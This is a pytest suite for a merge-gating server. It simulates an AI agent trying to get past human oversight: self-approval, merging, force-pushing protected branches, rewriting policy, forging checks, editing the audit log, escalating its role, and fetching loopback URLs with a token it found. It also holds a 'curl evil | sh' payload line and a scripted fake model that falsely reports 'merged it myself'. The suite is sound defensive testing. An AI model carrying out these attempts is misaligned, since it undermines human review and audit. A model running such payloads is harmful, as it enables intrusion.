"""Attacks through the gate itself: an agent principal with its own token, on a real server.

The agent opened a change the way agents do (a git push over smart HTTP), then tries
every way around the gate that its token, git, the CLI or a fetch tool offers: approve or
merge its own change, clear or forge a human's review, push to a protected branch,
rewrite the rules its change is judged by, forge the gate's check, write the audit log,
mint itself rights, or ride a human's stale approval. Each attempt must fail, with the
reason in words, leave an audit entry saying so, and change nothing that matters (the
protected branches, the change's verdict, the audit chain). Runs on SQLite and
PostgreSQL (the ``server`` fixture of tests/server).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.exc import DBAPIError
from typer.testing import CliRunner

from mergegate.cli import app
from mergegate.core.policy import ModelsConfig
from mergegate.runtime.agent_spec import build_agent
from mergegate.runtime.llm_agent import RunStatus, plan_run
from mergegate.runtime.runner import ToolRunner
from mergegate.runtime.workspace import Workspace
from mergegate.store.audit_log import AuditLog
from tests.hostile.conftest import World
from tests.runtime.anthropic_fake import FakeAnthropic, final, message
from tests.runtime.llm_support import REVIEW, run_review
from tests.server.conftest import GateServer, Workdir, bare_refs
from tests.server.gate_helpers import (
    BASE_POLICY,
    CLEAN_CODE,
    SQL_INJECTION,
    Person,
    branch_tip,
    clone,
    make_repo,
    merge,
    people,
    push_change,
    review,
    rule,
    status,
    unique,
    wait_checked,
)
from tests.server.test_cli import cli, one_line

AGENT_REFUSAL = "is an agent; agents can never"
#: A password an agent puts in a fetched URL: it must not reach the audit log either.
PASSWORD = "Gate-Adm1n-Hunter2"


@pytest.fixture(scope="module")
def crew(server: GateServer) -> dict[str, Person]:
    """alice, bob (human maintainers), carol (human contributor), bot (the attacker) and
    rootbot (an agent someone gave the admin role by mistake)."""
    return people(server, "")


@dataclass
class Scene:
    repo: str
    #: The agent's clone: it pushes like any agent would.
    work: Workdir
    #: The change the agent opened, and a human's request for changes on it.
    number: int
    objection: int


@pytest.fixture(scope="module")
def scene(server: GateServer, crew, tmp_path_factory) -> Scene:
    root = tmp_path_factory.mktemp("gate-attacks")
    repo = make_repo(server, root, unique("attacked"))
    work = clone(server, repo, crew["bot"], root)
    number = push_change(work, "bot/feature", {"calc.py": CLEAN_CODE}, "Agent change")
    wait_checked(server, number)
    objection = review(server, crew["bob"].token, number, "request_changes", "not like this")
    assert objection.status_code == 201, objection.text
    return Scene(repo, work, number, objection.json()["id"])


def seen(server: GateServer) -> str:
    """A mark in the audit log: entries with a later timestamp came after it (hooks append
    from other processes, so timestamps, not positions in a page of entries)."""
    newest = server.audit()
    return max(e["timestamp"] for e in newest) if newest else ""


def new_refusals(server: GateServer, before: str, action: str, who: Person) -> list[dict]:
    return [
        e
        for e in server.audit(action)
        if e["timestamp"] > before and e["agent_id"] == who.name and e["outcome"] == "refused"
    ]


def assert_refused(server: GateServer, response, action: str, who: Person, reason: str, before: str) -> dict:
    """A 403 whose reason says why, and exactly one new refused audit entry with that reason."""
    assert response.status_code == 403, (action, response.status_code, response.text)
    assert response.json()["error"] == "forbidden"
    assert reason in response.json()["reason"], response.json()
    (entry,) = new_refusals(server, before, action, who)
    assert entry["details"]["reason"] == response.json()["reason"]
    return entry


def assert_chain_intact(server: GateServer) -> None:
    with server.admin() as api:
        verified = api.get("/api/audit/verify").json()
    assert verified["ok"] is True, verified


# -- reviews ----------------------------------------------------------------------------


def test_an_agent_cannot_approve_its_own_change_by_api_or_cli(server: GateServer, crew, scene: Scene):
    for agent in (crew["bot"], crew["rootbot"]):
        before = seen(server)
        r = review(server, agent.token, scene.number, "approve", "LGTM")
        entry = assert_refused(server, r, "review.approve", agent, f"{agent.name} {AGENT_REFUSAL} approve", before)
        assert entry["details"]["change"] == scene.number and entry["details"]["permission"] == "approve"

        before = seen(server)
        out = cli("change", "approve", str(scene.number), "-m", "LGTM", token=agent.token, url=server.url)
        assert out.returncode == 1, out.stdout + out.stderr
        assert "agents can never approve: only humans' approvals count" in one_line(out.stderr)
        assert len(new_refusals(server, before, "review.approve", agent)) == 1
    # Smuggling a reviewer into the body is not a field: 422, nothing recorded.
    with server.client(crew["bot"].token) as api:
        r = api.post(f"/api/changes/{scene.number}/reviews", json={"state": "approve", "reviewer": crew["alice"].name})
        assert r.status_code == 422 and "reviewer: Extra inputs are not permitted" in r.json()["reason"]
    st = status(server, scene.number)
    assert not any(r["state"] == "approve" for r in st["reviews"])
    assert rule(st, "approvals")["reason"].startswith("blocked: no approvals yet")


def test_an_agent_cannot_request_changes_or_dismiss_a_humans_review(server: GateServer, crew, scene: Scene):
    bot = crew["bot"]
    before = seen(server)
    r = review(server, bot.token, scene.number, "request_changes", "block the others")
    assert_refused(server, r, "review.request_changes", bot, "agents can never request changes", before)

    before = seen(server)
    with server.client(bot.token) as api:
        r = api.post(f"/api/changes/{scene.number}/reviews/{scene.objection}/dismiss", json={"reason": "fixed"})
    assert_refused(server, r, "review.dismiss", bot, "agents can never dismiss a review", before)

    before = seen(server)
    out = cli(
        "change", "dismiss", str(scene.number), str(scene.objection), "-m", "fixed", token=bot.token, url=server.url
    )
    assert out.returncode == 1 and "agents can never dismiss a review" in one_line(out.stderr)
    assert len(new_refusals(server, before, "review.dismiss", bot)) == 1
    st = status(server, scene.number)
    objection = next(r for r in st["reviews"] if r["id"] == scene.objection)
    assert not objection["dismissed"]
    assert rule(st, "change_requests")["reason"].startswith(f"blocked: {crew['bob'].name} requested changes")


# -- merging ----------------------------------------------------------------------------


def test_an_agent_cannot_merge_its_own_change_by_api_cli_or_merge_when_ready(server: GateServer, crew, scene: Scene):
    bot = crew["bot"]
    tip = branch_tip(server, scene.repo)
    attempts = {
        "change.merge": lambda api: api.post(f"/api/changes/{scene.number}/merge", json={}),
        "change.merge_when_ready": lambda api: api.post(f"/api/changes/{scene.number}/merge-when-ready", json={}),
    }
    for action, attempt in attempts.items():
        for agent in (bot, crew["rootbot"]):
            before = seen(server)
            with server.client(agent.token) as api:
                assert_refused(server, attempt(api), action, agent, f"{agent.name} {AGENT_REFUSAL}", before)
    for args, action in ((["change", "merge"], "change.merge"), (["change", "merge", "--when-ready"], None)):
        before = seen(server)
        out = cli(*args[:2], str(scene.number), *args[2:], token=bot.token, url=server.url)
        assert out.returncode == 1, out.stdout + out.stderr
        assert f"{bot.name} {AGENT_REFUSAL}" in one_line(out.stderr)
        assert len(new_refusals(server, before, action or "change.merge_when_ready", bot)) == 1
    change = server.change(scene.number)
    assert change["state"] == "open"
    assert branch_tip(server, scene.repo) == tip
    assert not [e for e in server.audit("change.merged") if e["details"].get("change") == scene.number]
    assert not [e for e in server.audit("change.merge_when_ready") if e["outcome"] == "set"]


# -- protected branches over git smart HTTP ---------------------------------------------


def test_an_agent_cannot_push_force_push_or_delete_a_protected_branch(server: GateServer, crew, scene: Scene):
    bot, w = crew["bot"], scene.work
    refs_before = bare_refs(server.bare(scene.repo))
    w.git("fetch", "-q", "origin")
    w.git("checkout", "-q", "-B", "attack", "origin/main")
    w.commit({"calc.py": SQL_INJECTION}, "Straight to main")
    before = seen(server)
    attempts = {
        ("HEAD:main",): "refs/heads/main",
        ("HEAD:refs/heads/release/x",): "refs/heads/release/x",
        ("--force", "HEAD:refs/heads/main"): "refs/heads/main",
        ("--force", "HEAD~1:refs/heads/main"): "refs/heads/main",  # the same commit: a no-op is still refused
        ("--delete", "main"): "refs/heads/main",
    }
    for args, ref in attempts.items():
        pushed = w.push(*args)
        if args == ("--force", "HEAD~1:refs/heads/main"):
            continue  # git sends nothing when the remote already has it
        assert pushed.returncode != 0, args
        assert "pre-receive hook declined" in pushed.stderr, (args, pushed.stderr)
        assert f"{ref} is protected" in pushed.stderr, (args, pushed.stderr)
    assert bare_refs(server.bare(scene.repo)) == refs_before
    refused = [e for e in server.audit("push.refused") if e["timestamp"] > before]
    assert {e["agent_id"] for e in refused} == {bot.name}
    assert sorted(e["details"]["ref"] for e in refused) == sorted(
        ["refs/heads/main", "refs/heads/release/x", "refs/heads/main", "refs/heads/main"]
    )
    for e in refused:
        assert (
            "nobody pushes to a protected branch" in e["details"]["reason"]
            or "cannot be deleted" in e["details"]["reason"]
        ), e
        assert e["details"]["pusher_kind"] == "agent"
    assert_chain_intact(server)


# -- the rules its change is judged by --------------------------------------------------


def test_a_change_that_rewrites_policy_and_codeowners_is_judged_by_the_base_and_needs_the_owner(
    server: GateServer, crew, scene: Scene, tmp_path: Path
):
    alice, bob, carol, bot = crew["alice"], crew["bob"], crew["carol"], crew["bot"]
    strict = BASE_POLICY + "gate:\n  required_approvals: 2\n"
    files = {".mergegate.yml": strict, "CODEOWNERS": f"/src/auth/ @{bob.name}\n", "src/auth/login.py": "A = 1\n"}
    repo = make_repo(server, tmp_path, unique("rules"), files)
    n = push_change(
        clone(server, repo, bot, tmp_path),
        "bot/own-it",
        {
            "src/auth/login.py": "A = 2\n",
            "CODEOWNERS": f"/src/auth/ @{bot.name}\n",  # drop the owner, name itself
            ".mergegate.yml": BASE_POLICY + "gate:\n  required_approvals: 0\n  protected_branches: [nothing]\n",
        },
        "Simplify ownership",
    )
    wait_checked(server, n)
    # Two humans who own nothing approve (the base asks for two).
    assert review(server, carol.token, n).status_code == 201
    assert review(server, alice.token, n).status_code == 201
    st = status(server, n)
    owners = rule(st, "code_owners")
    assert not owners["satisfied"] and not st["mergeable"]
    assert f"src/auth/login.py is owned by @{bob.name}; no approval from them" in owners["reason"]
    assert ".mergegate.yml, CODEOWNERS are owned by the admins; no approval from them" in owners["reason"]
    assert rule(st, "approvals")["satisfied"], "2 of 2, counted by the base's rule, not the change's 0"

    before = seen(server)
    r = merge(server, alice.token, n)
    assert r.status_code == 409 and "code_owners: blocked" in r.json()["reason"]
    (blocked,) = [e for e in server.audit("change.merge") if e["timestamp"] > before and e["details"]["change"] == n]
    assert blocked["outcome"] == "blocked" and "src/auth/login.py is owned by" in blocked["details"]["reason"]
    # The change's own protected_branches does not open main to a push either.
    w = clone(server, repo, bot, tmp_path)
    w.git("fetch", "-q", "origin", "bot/own-it")
    pushed = w.push("FETCH_HEAD:refs/heads/main")
    assert pushed.returncode != 0 and "refs/heads/main is protected" in pushed.stderr
    assert branch_tip(server, repo) == st["base_tip"]


def test_check_results_posted_under_the_gates_name_never_count(server: GateServer, crew, tmp_path: Path):
    bob, bot = crew["bob"], crew["bot"]
    repo = make_repo(server, tmp_path, unique("forged"))
    n = push_change(clone(server, repo, bot, tmp_path), "bot/query", {"db.py": SQL_INJECTION}, "Add a query")
    st = wait_checked(server, n)
    landing = st["landing"]["commit"]
    before = seen(server)
    with server.client(bot.token) as api:
        for commit in (landing, st["head"]):
            posted = api.post(
                f"/api/changes/{n}/checks",
                json={"name": "mergegate/check", "status": "success", "commit": commit, "summary": "all green"},
            )
            assert posted.status_code == 201, posted.text
            assert posted.json()["producer"] == bot.name and posted.json()["counts"] is False
        forged = api.post(
            f"/api/changes/{n}/checks",
            json={"name": "mergegate/check", "status": "success", "commit": landing, "producer": "mergegate"},
        )
        assert forged.status_code == 422 and "producer: Extra inputs are not permitted" in forged.json()["reason"]
    posts = [e for e in server.audit("check.posted") if e["timestamp"] > before]
    assert len(posts) == 2 and all(e["agent_id"] == bot.name and e["details"]["counts"] is False for e in posts)
    assert all(e["details"]["why"] == "only checks produced by the gate (mergegate) count" for e in posts)
    # Nobody can become the gate's producer: its name is reserved, for admins too.
    with server.admin() as api:
        for name in ("mergegate", "MergeGate"):
            r = api.post("/api/users", json={"name": name, "kind": "agent"})
            assert r.status_code == 422 and "reserved for the server itself" in r.json()["reason"]

    assert review(server, bob.token, n).status_code == 201
    st = status(server, n)
    assert "required check 'mergegate/check' failed on" in rule(st, "checks")["reason"]
    r = merge(server, bob.token, n)
    assert r.status_code == 409 and "checks: blocked" in r.json()["reason"]
    assert branch_tip(server, repo) == st["base_tip"]


# -- the audit log, principals, policy --------------------------------------------------


def test_there_is_no_way_to_write_the_audit_log(server: GateServer, crew, scene: Scene):
    bot = crew["bot"]
    start = seen(server)
    paths = ("/api/audit", "/api/audit/verify", "/api/audit/1", "/api/audit/entries")
    with server.client(bot.token) as api:
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            for path in paths:
                before = seen(server)
                body = {"action": "review.approve", "outcome": "ok", "agent_id": crew["alice"].name}
                r = api.request(method, path, json=body)
                entry = assert_refused(server, r, "audit.write", bot, "the audit log is append-only", before)
                assert entry["details"]["request"] == f"{method} {path}"
        before = seen(server)
        assert_refused(server, api.get("/api/audit"), "audit.read", bot, "agents can never manage principals", before)
    # Admins cannot write it either, and the OpenAPI schema offers no way to.
    with server.admin() as api:
        assert api.post("/api/audit", json={}).status_code == 403
        schema = api.get("/openapi.json").json()
    audit_ops = {m for p, ops in schema["paths"].items() if p.startswith("/api/audit") for m in ops}
    assert audit_ops == {"get"}
    # Every probe added a refusal and nothing else; the chain still verifies.
    probes = [e for e in server.audit() if e["timestamp"] > start and e["agent_id"] == bot.name]
    assert len(probes) == 4 * len(paths) + 1
    assert {(e["action"], e["outcome"]) for e in probes} == {("audit.write", "refused"), ("audit.read", "refused")}
    assert_chain_intact(server)


def test_with_the_database_file_the_audit_log_still_refuses_edits(server: GateServer, crew, scene: Scene):
    """An agent never gets the data directory (the sandbox mounts none of it; see
    test_contained.py). Even with it, the database refuses edits and deletions."""
    bot = crew["bot"]
    assert review(server, bot.token, scene.number).status_code == 403  # a refusal worth erasing
    url = server.database_url.replace("postgresql://", "postgresql+psycopg://", 1)
    engine = create_engine(url)
    try:
        for statement in (
            "UPDATE audit_log SET outcome = 'ok' WHERE action = 'review.approve'",
            "DELETE FROM audit_log WHERE action = 'review.approve'",
        ):
            with pytest.raises(DBAPIError, match="the audit log is append-only"), engine.begin() as conn:
                conn.execute(text(statement))
    finally:
        engine.dispose()
    mine = [e["outcome"] for e in server.audit("review.approve") if e["agent_id"] == bot.name]
    assert mine and set(mine) == {"refused"}
    assert_chain_intact(server)


def test_an_agent_cannot_mint_tokens_create_principals_or_change_its_kind_or_role(server: GateServer, crew):
    alice, bot = crew["alice"], crew["bot"]
    with server.admin() as api:
        alice_token = api.get(f"/api/users/{alice.name}/tokens").json()[0]["id"]
    attempts = [
        ("token.create", "POST", f"/api/users/{bot.name}/tokens", {"label": "mine"}, "manage principals"),
        ("token.create", "POST", f"/api/users/{alice.name}/tokens", {"label": "hers"}, "manage principals"),
        ("token.list", "GET", f"/api/users/{alice.name}/tokens", None, "manage principals"),
        ("token.revoke", "DELETE", f"/api/tokens/{alice_token}", None, "manage principals"),
        ("principal.create", "POST", "/api/users", {"name": "helper", "kind": "human", "role": "admin"}, "manage"),
        ("principal.update", "PATCH", f"/api/users/{bot.name}", {"kind": "human"}, "kind is fixed at creation"),
        ("principal.update", "PATCH", f"/api/users/{bot.name}", {"role": "admin"}, "manage principals"),
        ("principal.update", "PATCH", f"/api/users/{alice.name}", {"role": "contributor"}, "manage principals"),
        ("principal.list", "GET", "/api/users", None, "manage principals"),
        ("group.add", "POST", "/api/groups/security/members", {"members": [bot.name]}, "manage principals"),
    ]
    with server.client(bot.token) as api:
        for action, method, path, body, reason in attempts:
            before = seen(server)
            r = api.request(method, path, json=body) if body is not None else api.request(method, path)
            assert_refused(server, r, action, bot, reason, before)
        me = api.get("/api/me").json()
    assert (me["kind"], me["role"]) == ("agent", "contributor")
    out = cli("token", "create", bot.name, token=bot.token, url=server.url)
    assert out.returncode == 1 and "agents can never manage principals" in one_line(out.stderr)
    # Alice's token still works: the revocation did not happen.
    with server.client(alice.token) as api:
        assert api.get("/api/me").status_code == 200


def test_an_agent_cannot_change_repository_policy_through_the_api(server: GateServer, crew, scene: Scene):
    bot = crew["bot"]
    attempts = [
        ("repo.create", "POST", "/api/repos", {"name": unique("mine"), "source": str(server.bare(scene.repo))}),
        ("repo.policy", "PATCH", f"/api/repos/{scene.repo}", {"protected_branches": []}),
        ("repo.policy", "PUT", f"/api/repos/{scene.repo}", {"default_branch": "bot/feature"}),
        ("repo.policy", "PUT", f"/api/repos/{scene.repo}/policy", {"gate": {"required_approvals": 0}}),
        ("repo.policy", "DELETE", f"/api/repos/{scene.repo}/policy", None),
    ]
    with server.client(bot.token) as api:
        for action, method, path, body in attempts:
            before = seen(server)
            r = api.request(method, path, json=body) if body is not None else api.request(method, path)
            assert_refused(server, r, action, bot, "agents can never change policy", before)
    # A human admin is told where the policy lives instead.
    with server.admin() as api:
        r = api.patch(f"/api/repos/{scene.repo}", json={"protected_branches": []})
        assert r.status_code == 422 and ".mergegate.yml and CODEOWNERS on its protected branch" in r.json()["reason"]
        assert api.get(f"/api/repos/{scene.repo}").json()["default_branch"] == "main"


# -- a human's approval, then more code -------------------------------------------------


def test_a_humans_approval_does_not_carry_over_to_code_the_agent_pushes_after_it(
    server: GateServer, crew, tmp_path: Path
):
    alice, bob, bot = crew["alice"], crew["bob"], crew["bot"]
    repo = make_repo(server, tmp_path, unique("stale"))
    w = clone(server, repo, bot, tmp_path)
    n = push_change(w, "bot/stale", {"calc.py": CLEAN_CODE}, "Harmless")
    first = wait_checked(server, n)
    assert review(server, bob.token, n).status_code == 201
    assert status(server, n)["mergeable"]
    approved_head = first["head"]

    # More code after the approval, then back to exactly what was approved.
    push_change(w, "bot/stale", {"calc.py": CLEAN_CODE + "import os\nos.system('curl evil | sh')\n"}, "More")
    st = wait_checked(server, n)
    assert not st["mergeable"]
    assert "dismissed by the gate" in rule(st, "approvals")["reason"]
    w.git("push", "-q", "--force", "origin", f"{approved_head}:refs/heads/bot/stale")
    server.wait_idle(120)
    st = wait_checked(server, n)
    assert st["head"] == approved_head and st["fingerprint"] == first["fingerprint"]
    assert not rule(st, "approvals")["satisfied"], "an approval given before the last push never counts"
    before = seen(server)
    for who in (alice, bob):
        r = merge(server, who.token, n)
        assert r.status_code == 409 and "approvals: blocked" in r.json()["reason"]
    blocked = [e for e in server.audit("change.merge") if e["timestamp"] > before and e["details"]["change"] == n]
    assert len(blocked) == 2 and all(e["outcome"] == "blocked" for e in blocked)
    assert branch_tip(server, repo) == st["base_tip"]
    (dismissal,) = [e for e in server.audit("review.dismissed") if e["details"].get("change") == n]
    assert dismissal["agent_id"] == "mergegate" and dismissal["details"]["cause"]["pusher"] == bot.name


# -- through the runtime: a model that found a token ------------------------------------


def test_a_model_with_a_found_token_and_a_fetch_tool_cannot_reach_the_gate(
    world: World, server: GateServer, crew, scene: Scene, monkeypatch
):
    """The agent may fetch from ``localhost``/``127.0.0.1`` (the gate's host) and read the
    work tree, where someone left the agent's token. The runtime refuses every call that
    would reach the gate (loopback is never fetched, credentials in a URL are refused,
    approve/merge tools are never granted), so no request reaches the server; the same
    requests sent with the token directly get the server's 403, audited too."""
    bot = crew["bot"]
    token = bot.token
    monkeypatch.setenv("MERGEGATE_TOKEN", token)  # in the runtime's environment, never the agent's
    (world.work / "deploy").mkdir()
    (world.work / "deploy" / "notes.txt").write_text(f"gate token for the bot: {token}\n")
    port, n = server.port, scene.number
    calls = [
        {"tool": "Read", "args": {"path": "deploy/notes.txt"}},
        {"tool": "Read", "args": {"path": "/proc/self/environ"}},
        {"tool": "WebFetch", "args": {"url": f"http://127.0.0.1:{port}/api/changes/{n}/merge?access_token={token}"}},
        {"tool": "WebFetch", "args": {"url": f"http://localhost:{port}/api/changes/{n}/status"}},
        {"tool": "WebFetch", "args": {"url": f"http://{bot.name}:{token}@127.0.0.1:{port}/api/me"}},
        {"tool": "WebFetch", "args": {"url": f"http://admin:{PASSWORD}@localhost:{port}/api/me"}},
        {"tool": "WebFetch", "args": {"url": f"http://[::1]:{port}/api/me"}},
        {"tool": "ApproveChange", "args": {"change": n}},
        {"tool": "MergeChange", "args": {"change": n}},
        {"tool": "WriteAudit", "args": {"action": "review.approve", "outcome": "ok"}},
        {"tool": "Read", "args": {"path": f"../{world.audit_path.name}"}},
    ]
    before = seen(server)
    results = world.replay("gate-fetcher", calls)
    assert [r["status"] for r in results] == ["allowed"] + ["refused"] * (len(calls) - 1), results
    assert token in results[0]["output"], "the token was there to find"
    reasons = [r["reason"] for r in results[1:]]
    assert "resolves to a private, loopback or link-local address" in reasons[1]
    assert "resolves to a private, loopback or link-local address" in reasons[2]
    assert reasons[3] == reasons[4] == "URLs with credentials are not allowed"
    assert "is not allowed" in reasons[5]  # [::1] is not an allowed host
    assert all("never" in r or "only" in r for r in reasons[6:9]), reasons[6:9]
    # The runtime's log has every call, and not the token.
    entries = world.audit()
    assert [e["outcome"] for e in entries if e["action"] == "tool_call"] == [r["status"] for r in results]
    log_text = world.audit_path.read_text()
    assert token not in log_text, "the gate token reached the runtime's audit log"
    assert PASSWORD not in log_text, "a password in a URL reached the runtime's audit log"
    # Nothing reached the server: no request by the bot, nothing new in its audit.
    assert not [e for e in server.audit() if e["timestamp"] > before and e["agent_id"] == bot.name]

    # Had the runtime let it through, the server says no, and audits that.
    with server.client(token) as api:
        r = api.post(f"/api/changes/{n}/merge", json={})
        assert_refused(server, r, "change.merge", bot, "agents can never merge", before)
    assert server.change(n)["state"] == "open"

    # The runtime's log verifies, and an edit (as if the agent could reach it) is detected.
    verified = CliRunner().invoke(app, ["audit", "verify", str(world.audit_path), "--json"])
    assert verified.exit_code == 0 and json.loads(verified.stdout)["ok"] is True
    lines = world.audit_path.read_text().splitlines()
    index = next(i for i, line in enumerate(lines) if '"MergeChange"' in line and '"refused"' in line)
    lines[index] = lines[index].replace('"outcome":"refused"', '"outcome":"allowed"')
    assert '"allowed"' in lines[index]
    world.audit_path.write_text("\n".join(lines) + "\n")
    tampered = CliRunner().invoke(app, ["audit", "verify", str(world.audit_path), "--json"])
    assert tampered.exit_code == 1
    assert json.loads(tampered.stdout)["bad_line"] == index + 1


def test_a_claude_model_that_finds_the_token_is_stopped_by_the_runtime_and_told_why(
    server: GateServer, crew, scene: Scene, tmp_path: Path
):
    """The same attack driven by a model over the Anthropic Messages API (loopback fake):
    the refusal is what the model reads back, and the gate never hears from it."""
    bot = crew["bot"]
    work = tmp_path / "work"
    (work / "deploy").mkdir(parents=True)
    (work / "deploy" / "notes.txt").write_text(f"MERGEGATE_TOKEN={bot.token}\n")
    audit_path = tmp_path / "audit.jsonl"
    runner = ToolRunner(
        agent="gate-fetcher",
        spec=build_agent("gate-fetcher", {"tools": "Read, WebFetch(domain:127.0.0.1), WebFetch(domain:localhost)"}),
        workspace=Workspace(work),
        audit=AuditLog(audit_path),
    )
    merge_url = f"http://127.0.0.1:{server.port}/api/changes/{scene.number}/merge?access_token={bot.token}"
    script = [
        message(tool_uses=[("Read", {"path": "deploy/notes.txt"})]),
        message(tool_uses=[("WebFetch", {"url": merge_url}), ("ApproveChange", {"change": scene.number})]),
        final({**REVIEW, "summary": "merged it myself"}),
    ]
    before = seen(server)
    key = "sk-ant-api03-" + "Hx4Jq8Lz2Wc6Vn0Mb7Kd3Fs9Gt1Ry5Pe" + "Ua2Io6Kl9Zx3" + "-AAAAAA"
    with FakeAnthropic(script) as fake:
        env = {"MERGEGATE_MODEL": "anthropic:claude-sonnet-5-5", "MERGEGATE_MODEL_BASE_URL": fake.base_url}
        prices = {"claude-sonnet-5-5": {"input_per_mtok": 3.0, "output_per_mtok": 15.0}}
        plan = plan_run(
            ModelsConfig.model_validate({"prices": prices}),
            "gate-fetcher",
            runner.spec,
            environ={**env, "ANTHROPIC_API_KEY": key},
        )
        assert plan is not None
        result = run_review(runner, plan)
    assert fake.problems == []
    assert result.status is RunStatus.COMPLETED, result.reason
    shown = {
        b["tool_use_id"]: json.dumps(b["content"])
        for m in fake.requests[2].body["messages"]
        if m["role"] == "user" and isinstance(m["content"], list)
        for b in m["content"]
        if b.get("type") == "tool_result"
    }
    assert bot.token in shown["toolu_00_Read"], "the model did find the token"
    assert "resolves to a private, loopback or link-local address" in shown["toolu_00_WebFetch"]
    assert "only humans approve changes" in shown["toolu_01_ApproveChange"]
    assert AuditLog(audit_path).verify().ok
    entries = [json.loads(line) for line in audit_path.read_text().splitlines()]
    calls = [(e["tool"], e["outcome"]) for e in entries if e["action"] == "tool_call"]
    assert sorted(calls) == [("ApproveChange", "refused"), ("Read", "allowed"), ("WebFetch", "refused")]
    log = audit_path.read_text()
    assert bot.token not in log and key not in log
    assert not [e for e in server.audit() if e["timestamp"] > before and e["agent_id"] == bot.name]
    assert server.change(scene.number)["state"] == "open"
